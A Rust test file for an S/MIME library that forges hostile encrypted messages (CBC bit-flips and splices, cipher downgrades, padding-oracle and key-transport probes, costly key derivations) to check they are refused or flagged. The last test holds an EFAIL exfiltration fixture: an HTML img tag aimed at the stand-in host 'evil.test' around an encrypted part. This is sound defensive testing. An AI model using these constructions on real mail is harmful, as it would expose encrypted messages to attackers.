//! Encrypted messages made to deceive or to question the recipient: what comes out, what is said, and when.

use std::io::{Cursor, Write};
use std::sync::LazyLock;

use smime::asn1::{Tag, oid};
use smime::cms::{AlgorithmIdentifier, IssuerAndSerial, KeyAgreementRecipient, RecipientIdentifier, RecipientInfo};
use smime::crypto::{Curve, KeyKind};
use smime::report::Layer;
use smime::{Code, ContentCipher, Encryptor, Error, Identity, Limits, Opener, Policy, Verdict};
use smime_tests::forge::{
    ENTITY, EnvelopeForge, algorithm, attribute, element, encrypt, object, pkcs7_mime, recipient, recipient_with, sequence, triple_des,
};
use smime_tests::pki::Pki;

const AEAD: ContentCipher = ContentCipher::Aes128Gcm;
const CBC: ContentCipher = ContentCipher::Aes128Cbc;

struct Scene {
    pki: Pki,
    bob: Identity,
    carol: Identity,
}

/// RSA keys take long to make: one scene for all.
static SCENE: LazyLock<Scene> = LazyLock::new(|| {
    let pki = Pki::new();
    let bob = pki.person("b@example.org", KeyKind::Rsa { bits: 2048 });
    let carol = pki.person("c@example.org", KeyKind::Ec(Curve::P256));
    Scene { pki, bob, carol }
});

impl Scene {
    fn opener(&self) -> Opener {
        self.pki.opener().identity(&self.bob).identity(&self.carol)
    }

    fn forge(&self, cipher: ContentCipher) -> EnvelopeForge {
        EnvelopeForge::new(self.bob.certificate(), cipher, ENTITY)
    }

    fn error(&self, message: &[u8]) -> Error {
        self.opener().open(message).err().expect("an error")
    }

    fn refuses(&self, forge: &EnvelopeForge, code: Code) {
        let error = self.error(&forge.message());
        assert_eq!(error.code(), code, "{error}");
    }
}

/// Counts what is written.
#[derive(Default)]
struct Counter(usize);

impl Write for Counter {
    fn write(&mut self, octets: &[u8]) -> std::io::Result<usize> {
        self.0 += octets.len();
        Ok(octets.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn the_report_says_whether_changes_would_have_been_noticed() {
    for (cipher, authenticated) in [(AEAD, true), (ContentCipher::Aes256Gcm, true), (CBC, false), (ContentCipher::Aes256Cbc, false)] {
        let opened = SCENE.opener().open(&SCENE.forge(cipher).message()).unwrap();
        let report = opened.report();
        assert_eq!(opened.content().unwrap(), ENTITY);
        assert_eq!(report.verdict, Verdict::Unsigned, "encryption alone is never valid: {}", report.to_json());
        let Some(Layer::Encrypted(layer)) = report.layers.first() else { panic!("{}", report.to_json()) };
        assert_eq!((layer.authenticated, report.has(Code::EncNoIntegrity)), (authenticated, !authenticated), "{cipher}");
        let strict = SCENE.opener().policy(Policy::strict()).open(&SCENE.forge(cipher).message());
        assert_eq!(strict.map(|_| ()).map_err(|error| error.code()), if authenticated { Ok(()) } else { Err(Code::EncAlgorithmForbidden) });
    }
}

#[test]
fn cbc_gadgets_do_not_pass_unflagged() {
    // EFAIL: the first block becomes what the attacker wants by changing the IV; blocks are taken over from elsewhere.
    let good = SCENE.forge(CBC);
    let mut flipped = good.clone();
    let iv = flipped.algorithm.len() - 16;
    flipped.algorithm[iv] ^= 1;
    let mut spliced = good.clone();
    let ciphertext = good.ciphertext.clone().unwrap();
    spliced.ciphertext = Some([&ciphertext[..16], &ciphertext].concat());
    for forged in [flipped, spliced] {
        match SCENE.opener().open(&forged.message()) {
            Ok(opened) => {
                assert!(opened.report().has(Code::EncNoIntegrity) && opened.verdict() != Verdict::Valid);
                let demanding = SCENE.opener().require_signature(true).open(&forged.message()).unwrap();
                assert!(demanding.content().is_err() && demanding.report().has(Code::SigMissing));
            }
            Err(error) => assert_eq!(error.code(), Code::EncDecryptFailed),
        }
    }
}

#[test]
fn each_structure_takes_its_kind_of_cipher() {
    let aead = SCENE.forge(AEAD);
    SCENE.refuses(&EnvelopeForge { tag: None, ..aead.clone() }, Code::EncAeadInEnveloped);
    SCENE.refuses(&EnvelopeForge { tag: Some(vec![0; 16]), ..SCENE.forge(CBC) }, Code::EncNotAead);
    // The downgrade: the same recipients and ciphertext, said to be CBC with the counter block as IV.
    let downgraded = EnvelopeForge { tag: None, algorithm: CBC.algorithm_identifier(&[2; 16], 0), ..aead };
    match SCENE.opener().open(&downgraded.message()) {
        Ok(opened) => assert!(opened.report().has(Code::EncNoIntegrity)),
        Err(error) => assert_eq!(error.code(), Code::EncDecryptFailed),
    }
}

#[test]
fn the_tag_has_the_length_declared_and_that_is_long_enough() {
    let good = SCENE.forge(AEAD);
    let full = good.tag.clone().unwrap();
    let parameters = |octets: &[u8]| algorithm(AEAD.oid(), &sequence(&[&element(Tag::OCTET_STRING, &[2; 12]), octets]));
    for length in [0, 1, 4, 8, 11, 17, 255] {
        let declared = parameters(&element(Tag::INTEGER, &[0, length]));
        let tag = full[..usize::from(length).min(16)].to_vec();
        SCENE.refuses(&EnvelopeForge { algorithm: declared, tag: Some(tag), ..good.clone() }, Code::EncTagLength);
    }
    for length in 12..=16usize {
        let forge = EnvelopeForge { algorithm: AEAD.algorithm_identifier(&[2; 12], length), ..good.clone() };
        let fitting = EnvelopeForge { tag: Some(full[..length].to_vec()), ..forge.clone() };
        assert_eq!(SCENE.opener().open(&fitting.message()).unwrap().content().unwrap(), ENTITY, "{length}");
        for other in (0..=16).filter(|other| *other != length) {
            SCENE.refuses(&EnvelopeForge { tag: Some(full[..other].to_vec()), ..forge.clone() }, Code::EncTagLength);
        }
    }
    // Nonces of no length, and a ciphertext that is not there.
    for nonce in [&[][..], &[2; 300]] {
        let declared = algorithm(AEAD.oid(), &sequence(&[&element(Tag::OCTET_STRING, nonce), &[0x02, 0x01, 0x10]]));
        SCENE.refuses(&EnvelopeForge { algorithm: declared, ..good.clone() }, Code::AlgParameters);
    }
    SCENE.refuses(&EnvelopeForge { ciphertext: None, ..good }, Code::CmsStructure);
}

#[test]
fn authenticated_attributes_are_authenticated() {
    let content_type = attribute(oid::ID_CONTENT_TYPE, &[object(oid::ID_DATA)]);
    let time = attribute(oid::ID_SIGNING_TIME, &[element(Tag::UTC_TIME, b"261123120000Z")]);
    let to = SCENE.bob.certificate();
    let good = EnvelopeForge::with_attributes(to, AEAD, ENTITY, Some(vec![content_type.clone(), time.clone()]));
    assert_eq!(SCENE.opener().open(&good.message()).unwrap().content().unwrap(), ENTITY);
    // Any order, as the DER encoding is what counts (RFC 5083 section 2.2).
    let turned = EnvelopeForge { attributes: Some(vec![time.clone(), content_type.clone()]), ..good.clone() };
    assert_eq!(SCENE.opener().open(&turned.message()).unwrap().content().unwrap(), ENTITY);
    let other_time = attribute(oid::ID_SIGNING_TIME, &[element(Tag::UTC_TIME, b"261123120001Z")]);
    SCENE.refuses(&EnvelopeForge { attributes: Some(vec![content_type.clone(), other_time]), ..good.clone() }, Code::EncDecryptFailed);
    SCENE.refuses(&EnvelopeForge { attributes: Some(vec![content_type.clone()]), ..good.clone() }, Code::EncDecryptFailed);
    SCENE.refuses(&EnvelopeForge { attributes: None, ..good }, Code::EncDecryptFailed);
    let bare = SCENE.forge(AEAD);
    SCENE.refuses(&EnvelopeForge { attributes: Some(vec![content_type.clone()]), ..bare.clone() }, Code::EncDecryptFailed);
    // The content type must be among them, once, and that of the content.
    let with = |attributes: Vec<Vec<u8>>| EnvelopeForge::with_attributes(to, AEAD, ENTITY, Some(attributes));
    SCENE.refuses(&with(vec![time]), Code::CmsStructure);
    SCENE.refuses(&with(vec![attribute(oid::ID_CONTENT_TYPE, &[object(oid::ID_SIGNED_DATA)])]), Code::CmsStructure);
    SCENE.refuses(&with(vec![content_type.clone(), content_type]), Code::CmsDuplicateAttribute);
    SCENE.refuses(&EnvelopeForge { content_type: oid::ID_SIGNED_DATA, ..bare }, Code::CmsStructure);
}

#[test]
fn nothing_decrypted_leaves_before_the_tag_is_checked() {
    // Larger than what is kept in memory, so that it would be written piece by piece.
    let content = [ENTITY, &vec![b'x'; 1 << 20]].concat();
    let good = EnvelopeForge::new(SCENE.bob.certificate(), AEAD, &content);
    let mut written = Counter::default();
    assert!(SCENE.opener().open_from(&mut Cursor::new(good.message()), &mut written).unwrap().is_acceptable());
    assert_eq!(written.0, content.len());
    let mut spoiled_tag = good.clone();
    spoiled_tag.tag.as_mut().unwrap()[0] ^= 1;
    let mut spoiled_end = good.clone();
    spoiled_end.ciphertext.as_mut().unwrap()[1 << 20] ^= 1;
    for spoiled in [spoiled_tag, spoiled_end] {
        let message = spoiled.message();
        let mut written = Counter::default();
        let error = SCENE.opener().open_from(&mut Cursor::new(&message), &mut written).err().unwrap();
        assert_eq!((error.code(), written.0), (Code::EncDecryptFailed, 0));
        assert_eq!(SCENE.error(&message).code(), Code::EncDecryptFailed);
        let mut stream = SCENE.opener().stream();
        let pushed = message.chunks(1000).try_for_each(|chunk| stream.push(chunk));
        let error = pushed.and_then(|()| stream.finish().map(|_| ())).expect_err("an error");
        assert_eq!(error.code(), Code::EncDecryptFailed);
    }
    // A message whose end never comes.
    let message = good.message();
    let mut written = Counter::default();
    let error = SCENE.opener().open_from(&mut Cursor::new(&message[..message.len() / 2]), &mut written).err().unwrap();
    assert!(matches!(error.code(), Code::BerTruncated | Code::MimeTransferEncoding), "{error}");
    assert_eq!(written.0, 0);
}

#[test]
fn all_failures_of_the_key_transport_look_the_same() {
    let good = SCENE.forge(AEAD);
    let public = SCENE.bob.certificate().public_key().unwrap();
    let transport = smime::KeyTransport::RsaPkcs1v15;
    let encrypted = |key: &[u8]| public.encrypt_key(&transport, key).unwrap();
    let name = transport.algorithm_identifier();
    let oaep = smime::KeyTransport::oaep(smime::DigestAlgorithm::Sha256);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("another key", recipient_with(SCENE.bob.certificate(), &name, &encrypted(&[9; 16]))),
        ("a key too short", recipient_with(SCENE.bob.certificate(), &name, &encrypted(&[1; 15]))),
        ("a key too long", recipient_with(SCENE.bob.certificate(), &name, &encrypted(&[1; 17]))),
        ("an empty key", recipient_with(SCENE.bob.certificate(), &name, &encrypted(&[]))),
        ("wrong padding", recipient_with(SCENE.bob.certificate(), &name, &[7; 256])),
        ("zero", recipient_with(SCENE.bob.certificate(), &name, &[0; 256])),
        ("larger than the modulus", recipient_with(SCENE.bob.certificate(), &name, &[0xff; 256])),
        ("too short a ciphertext", recipient_with(SCENE.bob.certificate(), &name, &[7; 255])),
        ("too long a ciphertext", recipient_with(SCENE.bob.certificate(), &name, &[7; 257])),
        ("no ciphertext", recipient_with(SCENE.bob.certificate(), &name, &[])),
        ("OAEP padding expected", recipient_with(SCENE.bob.certificate(), &oaep.algorithm_identifier(), &encrypted(&[1; 16]))),
        ("PKCS #1 padding expected", recipient_with(SCENE.bob.certificate(), &name, &public.encrypt_key(&oaep, &[1; 16]).unwrap())),
    ];
    let mut messages = std::collections::BTreeSet::new();
    for (case, spoiled) in cases {
        let error = SCENE.error(&EnvelopeForge { recipients: vec![spoiled], ..good.clone() }.message());
        assert_eq!(error.code(), Code::EncDecryptFailed, "{case}");
        messages.insert(error.to_string());
    }
    assert_eq!(messages.len(), 1, "{messages:?}");
    // And like a tag that is wrong.
    let mut spoiled = good;
    spoiled.tag.as_mut().unwrap()[0] ^= 1;
    assert!(messages.contains(&SCENE.error(&spoiled.message()).to_string()));
}

/// A KeyAgreeRecipientInfo for Carol that cannot be unwrapped.
fn useless_agreement() -> Vec<u8> {
    let certificate = SCENE.carol.certificate();
    let name = IssuerAndSerial { issuer: certificate.issuer().der().to_vec(), serial: certificate.serial().to_vec() };
    let point = certificate.public_key().unwrap().key_octets().to_vec();
    let key = AlgorithmIdentifier { oid: oid::ID_EC_PUBLIC_KEY, parameters: None };
    let wrap = AlgorithmIdentifier { oid: oid::AES128_WRAP, parameters: None };
    let scheme = AlgorithmIdentifier { oid: oid::DH_SINGLE_PASS_STD_DH_SHA256KDF, parameters: Some(wrap.to_der()) };
    let mine = KeyAgreementRecipient { rid: RecipientIdentifier::IssuerAndSerial(name), encrypted_key: vec![0; 24] };
    RecipientInfo::key_agreement((key, point), None, scheme, vec![mine]).to_der().unwrap()
}

#[test]
fn private_keys_are_used_a_bounded_number_of_times() {
    let good = SCENE.forge(AEAD);
    let bounds = Limits { private_key_operations: 3, ..Limits::default() };
    for (count, code) in [(1, Code::EncDecryptFailed), (3, Code::EncDecryptFailed), (4, Code::LimitPrivateKey), (64, Code::LimitPrivateKey)]
    {
        let forge = EnvelopeForge { recipients: vec![useless_agreement(); count], ..good.clone() };
        let error = SCENE.opener().limits(bounds.clone()).open(&forge.message()).err().unwrap();
        assert_eq!(error.code(), code, "{count}");
    }
    SCENE.refuses(&EnvelopeForge { recipients: vec![useless_agreement(); 33], ..good.clone() }, Code::LimitPrivateKey);
    // Layers count together.
    let inner = SCENE.forge(AEAD).message();
    let nested = EnvelopeForge::new(SCENE.bob.certificate(), AEAD, &inner).message();
    let one = Limits { private_key_operations: 1, ..Limits::default() };
    assert_eq!(SCENE.opener().limits(one).open(&nested).err().unwrap().code(), Code::LimitPrivateKey);
    assert!(SCENE.opener().open(&nested).is_ok());
}

#[test]
fn recipients_of_unknown_kinds_are_passed_over() {
    let mine = SCENE.forge(AEAD).recipients.remove(0);
    let unknown = element(Tag::context_constructed(4), &[object(oid::ID_DATA), vec![0x05, 0x00]].concat());
    let later = element(Tag::context_constructed(7), &[0x02, 0x01, 0x00]);
    let stranger = recipient(SCENE.pki.person("s@example.org", KeyKind::Rsa { bits: 2048 }).certificate(), &[1; 16]);
    let forge = EnvelopeForge { recipients: vec![unknown.clone(), later, stranger.clone(), mine], ..SCENE.forge(AEAD) };
    let opened = SCENE.opener().open(&forge.message()).unwrap();
    let Some(Layer::Encrypted(layer)) = opened.report().layers.first() else { panic!() };
    let used: Vec<(&str, bool)> = layer.recipients.iter().map(|recipient| (recipient.kind, recipient.used)).collect();
    assert_eq!(used, [("ori", false), ("ori", false), ("ktri", false), ("ktri", true)]);
    SCENE.refuses(&EnvelopeForge { recipients: vec![unknown, stranger], ..SCENE.forge(AEAD) }, Code::EncNoRecipient);
    SCENE.refuses(&EnvelopeForge { recipients: vec![], ..SCENE.forge(AEAD) }, Code::EncNoRecipient);
}

#[test]
fn a_point_off_its_curve_is_refused_before_arithmetic() {
    let message = Encryptor::new().recipient(SCENE.carol.certificate()).unwrap().cipher(AEAD).unwrap().stream_to_der();
    let at = message.windows(3).position(|window| window == [0x42, 0x00, 0x04]).expect("an ephemeral point") + 3;
    let mut spoiled = message.clone();
    spoiled[at + 63] ^= 1;
    let error = SCENE.error(&spoiled);
    assert!(matches!(error.code(), Code::KeyInvalid | Code::EncDecryptFailed), "{error}");
}

/// A message to work on without its base64.
trait StreamToDer {
    fn stream_to_der(&self) -> Vec<u8>;
}

impl StreamToDer for Encryptor {
    fn stream_to_der(&self) -> Vec<u8> {
        let message = self.encrypt(ENTITY).unwrap();
        let body = message.windows(4).position(|window| window == b"\r\n\r\n").unwrap() + 4;
        let mut der = Vec::new();
        let mut decoder = smime::mime::TransferDecoder::new(smime::mime::TransferEncoding::Base64);
        decoder.push(&message[body..], &mut der).unwrap();
        decoder.finish(&mut der).unwrap();
        der
    }
}

#[test]
fn wrapped_keys_of_any_length_are_looked_at_before_arithmetic() {
    let good = SCENE.forge(AEAD);
    for length in [0, 1, 7, 8, 15, 16, 23, 25, 32, 4096] {
        let mut info = RecipientInfo::parse(&useless_agreement(), &Limits::default()).unwrap();
        if let RecipientInfo::KeyAgreement { recipients, .. } = &mut info {
            recipients[0].encrypted_key = vec![0; length];
        }
        SCENE.refuses(&EnvelopeForge { recipients: vec![info.to_der().unwrap()], ..good.clone() }, Code::EncDecryptFailed);
    }
}

#[test]
fn key_derivations_of_any_cost_are_refused_at_once() {
    use smime::identity::KeyFile;
    // PBES2 with PBKDF2 of 2^31 - 1 iterations, and scrypt that wants 2^40 octets.
    let vector = element(Tag::OCTET_STRING, &[0; 16]);
    let number = |octets: &[u8]| element(Tag::INTEGER, octets);
    let salt = element(Tag::OCTET_STRING, b"saltsalt");
    let pbkdf2 = algorithm(oid::ID_PBKDF2, &sequence(&[&salt, &number(&[0x7f, 0xff, 0xff, 0xff])]));
    let scrypt = algorithm(oid::ID_SCRYPT, &sequence(&[&salt, &number(&[0x40, 0, 0, 0]), &number(&[0x40, 0]), &number(&[1])]));
    for derivation in [pbkdf2, scrypt] {
        let scheme = algorithm(oid::ID_PBES2, &sequence(&[&derivation, &algorithm(oid::AES256_CBC, &vector)]));
        let key = sequence(&[&scheme, &element(Tag::OCTET_STRING, &[0; 64])]);
        let error = KeyFile::read(&key, Some("secret"), &Limits::default()).err().expect("an error");
        assert_eq!(error.code(), Code::LimitKdf, "{error}");
    }
}

#[test]
fn what_is_wrong_inside_is_not_told_before_the_tag_is_good() {
    // Inside is a broken multipart; as long as the tag is wrong only that is told.
    let broken = b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n";
    let good = EnvelopeForge::new(SCENE.bob.certificate(), AEAD, broken);
    SCENE.refuses(&good, Code::MimeTransferEncoding);
    let mut spoiled = good;
    spoiled.tag.as_mut().unwrap()[3] ^= 1;
    SCENE.refuses(&spoiled, Code::EncDecryptFailed);
    // The same with CBC, where the padding is the only check: one answer for all that is wrong with it.
    let forge = SCENE.forge(CBC);
    let mut messages = std::collections::BTreeSet::new();
    for padding in [[0; 16], [17; 16], [255; 16], [3; 16].map(|octet: u8| octet ^ 1)] {
        let (ciphertext, _) = encrypt(CBC, &[1; 16], &[2; 16], &[], &padding);
        let spoiled = EnvelopeForge { ciphertext: Some(ciphertext[..16].to_vec()), ..forge.clone() };
        if let Err(error) = SCENE.opener().open(&spoiled.message()) {
            assert_eq!(error.code(), Code::EncDecryptFailed);
            messages.insert(error.to_string());
        }
    }
    for length in [0, 1, 15, 17] {
        let spoiled = EnvelopeForge { ciphertext: Some(vec![0; length]), ..forge.clone() };
        let error = SCENE.error(&spoiled.message());
        assert_eq!(error.code(), Code::EncDecryptFailed, "{length}");
        messages.insert(error.to_string());
    }
    assert_eq!(messages.len(), 1, "{messages:?}");
}

#[test]
fn old_ciphers_need_the_policy_for_archives() {
    let mine = recipient(SCENE.bob.certificate(), &triple_des::KEY);
    let forge = EnvelopeForge { recipients: vec![mine], ..triple_des::envelope() };
    SCENE.refuses(&forge, Code::EncAlgorithmForbidden);
    let opened = SCENE.opener().policy(Policy::legacy()).open(&forge.message()).unwrap();
    assert!(opened.report().has(Code::EncWeak) && opened.report().has(Code::EncNoIntegrity));
    let error = SCENE.error(&pkcs7_mime("enveloped-data", &EnvelopeForge { algorithm: algorithm(oid::ID_DATA, &[]), ..forge }.der()));
    assert_eq!(error.code(), Code::AlgUnsupported);
    // The same where only the key is wrapped with Triple DES.
    let mut wrapped = RecipientInfo::parse(&useless_agreement(), &Limits::default()).unwrap();
    if let RecipientInfo::KeyAgreement { algorithm, .. } = &mut wrapped {
        let wrap = AlgorithmIdentifier { oid: oid::ID_ALG_CMS_3DES_WRAP, parameters: Some(vec![0x05, 0x00]) };
        algorithm.parameters = Some(wrap.to_der());
    }
    let forge = EnvelopeForge { recipients: vec![wrapped.to_der().unwrap()], ..SCENE.forge(AEAD) };
    SCENE.refuses(&forge, Code::EncAlgorithmForbidden);
    let error = SCENE.opener().policy(Policy::legacy()).open(&forge.message()).err().unwrap();
    assert_eq!(error.code(), Code::EncDecryptFailed);
}

#[test]
fn decrypted_parts_are_never_spliced_together() {
    // EFAIL direct exfiltration: an image element around the encrypted part. Only what was decrypted comes out.
    let encrypted = SCENE.forge(CBC).message();
    let message = [
        &b"From: a@example.org\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n--m\r\n"[..],
        &encrypted[encrypted.windows(13).position(|window| window == b"Content-Type:").unwrap()..],
        b"\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n",
    ]
    .concat();
    let opened = SCENE.opener().open(&message).unwrap();
    assert_eq!(opened.content().unwrap(), ENTITY);
    assert!(opened.report().has(Code::SigUncovered), "{}", opened.report().to_json());
    assert_eq!(opened.report().coverage.uncovered_parts, ["1", "3"]);
}
